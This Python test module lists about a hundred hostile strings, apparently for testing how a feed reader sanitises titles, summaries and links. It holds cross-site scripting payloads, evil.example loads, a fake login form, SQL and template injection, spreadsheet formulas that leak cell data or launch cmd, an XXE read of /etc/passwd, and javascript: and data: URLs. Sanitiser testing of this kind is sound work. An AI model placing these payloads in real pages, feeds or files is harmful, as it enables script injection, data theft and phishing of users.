"""A hundred texts that a hostile feed might use as a title, summary, author, category or guid, and links of the kind.

Written for these tests. What would run calls owned(), what would ask asks evil.example.
"""

_ELEMENTS = """\
<script>owned()</script>
<SCRIPT SRC=//evil.example/s.js></SCRIPT>
<script/x>owned()</script/x>
<scr<script>ipt>owned()</scr</script>ipt>
<script>owned()//
</title><script>owned()</script>
</textarea><script>owned()</script>
</style></noscript></template><script>owned()</script>
--><script>owned()</script><!--
<script type=module>import('//evil.example/m.js')</script>
<script>document.title='owned';owned()</script>
<img src=x onerror=owned()>
<img src="x" onerror="owned()">
<img src='x' onerror='owned()'/>
<img/src=x/onerror=owned()>
<IMG SRC=`x` ONERROR=owned()>
<img src=//evil.example/pixel.gif width=1 height=1>
<img srcset="//evil.example/a 1x, //evil.example/b 2x">
<image href=//evil.example/i onerror=owned()>
<picture><source srcset=//evil.example/p><img src=x></picture>
<svg onload=owned()>
<svg/onload=owned()//
<svg><script>owned()</script></svg>
<svg><script href=//evil.example/s></script></svg>
<svg><use href="//evil.example/u#x"/></svg>
<svg><animate onbegin=owned() attributeName=x dur=1s>
<svg><image href=//evil.example/s.png></svg>
<svg><foreignObject><iframe src=javascript:owned()></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=owned()&gt;">
<math href=javascript:owned()>click</math>
<iframe src=javascript:owned()></iframe>
<iframe srcdoc="&lt;script&gt;parent.owned()&lt;/script&gt;"></iframe>
<iframe src=//evil.example/frame></iframe>
<object data=//evil.example/o></object>
<embed src=//evil.example/e>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example/r">
<link rel=stylesheet href=//evil.example/l.css>
<link rel=prefetch href=//evil.example/l>
<style>@import '//evil.example/i.css';*{background:url(//evil.example/bg)}</style>
<div style="background:url(//evil.example/css)">boxed</div>
<p style=position:fixed;inset:0;background:red;z-index:9>covered</p>
<video src=//evil.example/v onerror=owned() autoplay></video>
<audio src=x onerror=owned()></audio>
<details open ontoggle=owned()>
<input autofocus onfocus=owned()>
<body onload=owned() onpageshow=owned()>
<form action=//evil.example/f><input name=password><button>Log in</button></form>
<marquee onstart=owned()>news</marquee>
<a href=javascript:owned()>read on</a>
<a href=//evil.example ping=//evil.example/ping>a link</a>
<plaintext>the rest of the page
<xmp><script>owned()</script></xmp>
<template shadowrootmode=open><script>owned()</script></template>
<x onclick=owned() tabindex=1 onfocus=owned() autofocus>odd</x>""".splitlines()

_ATTRIBUTES = """\
" onmouseover="owned()
' onmouseover='owned()
" autofocus onfocus=owned() x="
' autofocus onfocus=owned() x='
"><script>owned()</script>
'><script>owned()</script>
"/><img src=x onerror=owned()><"
`onmouseover=owned()
x" style="background:url(//evil.example/a)" y="
en" onclick="owned()""".splitlines()

_ENCODED = """\
&lt;script&gt;owned()&lt;/script&gt;
&amp;lt;script&amp;gt;owned()&amp;lt;/script&amp;gt;
&amp;amp;lt;img src=x onerror=owned()&amp;amp;gt;
&#60;script&#62;owned()&#60;/script&#62;
&#x3c;img src=x onerror=owned()&#x3e;
&#0000060script>owned()</script>
&lt;img src=x onerror=owned()&gt
%3Cscript%3Eowned()%3C/script%3E
\\u003cscript\\u003eowned()\\u003c/script\\u003e
\\x3cimg src=x onerror=owned()\\x3e
\uff1cscript\uff1eowned()\uff1c/script\uff1e
+ADw-script+AD4-owned()+ADw-/script+AD4-
&quot; onmouseover=&quot;owned()
&nosuch; &#0; &#xD800; &#x110000; &amp &""".splitlines()

_LANGUAGES = """\
{{7*7}} {{ config }} {{ ''.__class__.__mro__ }}
{% raw %}{% endraw %}{% for x in [].__class__ %}{{ x }}{% endfor %}
{# a comment #} ${7*7} #{7*7} <%= 7*7 %>
%s %(title)s {0} {title} $title
'; DROP TABLE articles; --
" OR 1=1 -- NEAR/2 title:x AND (
=HYPERLINK("http://evil.example/?x="&A1,"click")
+cmd|' /C calc'!A0
-2+3+cmd|' /C calc'!A0
@SUM(1+1)*cmd
'=1+1
''''=quoted
]]><script>owned()</script><![CDATA[
<![CDATA[<img src=x onerror=owned()>]]>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e;
<?xml-stylesheet href="//evil.example/x.xsl"?>""".splitlines()

_CHARACTERS = [
    "\u202egnp.exe\u202c \u2066isolated\u2069 \u200fright to left",
    "nul \x00 bell \x07 escape \x1b[31m delete \x7f <scr\x00ipt>owned()</script>",
    "two\r\nlines\tand a tab\x0b\x0c\x85\u2028\u2029 <img\nsrc=x\nonerror=owned()>",
    "Zalgo " + "e" + "\u0301" * 200 + " <b>",
    "overlong " + "A" * 5000 + "<script>owned()</script>",
]

TEXTS: tuple[str, ...] = (*_ELEMENTS, *_ATTRIBUTES, *_ENCODED, *_LANGUAGES, *_CHARACTERS)

LINKS: tuple[str, ...] = (
    "javascript:owned()", "JaVaScRiPt:owned()", " javascript:owned()", "java\tscript:owned()", "java\nscript:owned()",
    "java&#09;script:owned()", "&#106;avascript:owned()", "javascript&colon;owned()", "\x01javascript:owned()",
    "javascript://press.example/%0aowned()", "data:text/html,<script>owned()</script>",
    "data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+", "vbscript:owned()", "file:///etc/passwd",
    "blob:https://press.example/1", "about:blank", "view-source:https://press.example/", "feed:javascript:owned()",
    "//press.example/\"onmouseover=\"owned()", "https://press.example/\"><script>owned()</script>",
    "https://press.example/' onclick='owned()", "https://press.example/?q=<img src=x onerror=owned()>",
    "https://press.example/#\"><svg onload=owned()>", "https://press.example/`onfocus=owned()` autofocus",
    "https://press.example/&quot;onmouseover=&quot;owned()", "https://press.example/%22%3E%3Cscript%3Eowned()",
    "https://javascript:owned()@press.example/user", "https://press.example\\@evil.example/",
    "https://press.example/\u202egpj.exe", "https://press.example/{{7*7}}{%25raw%25}", "https://press.example/=1+1",
    "http://[::1]:1/owned", "https://press.example/" + "a" * 3000,
)  # fmt: skip
"""Links, of which some can be followed and some must not be."""
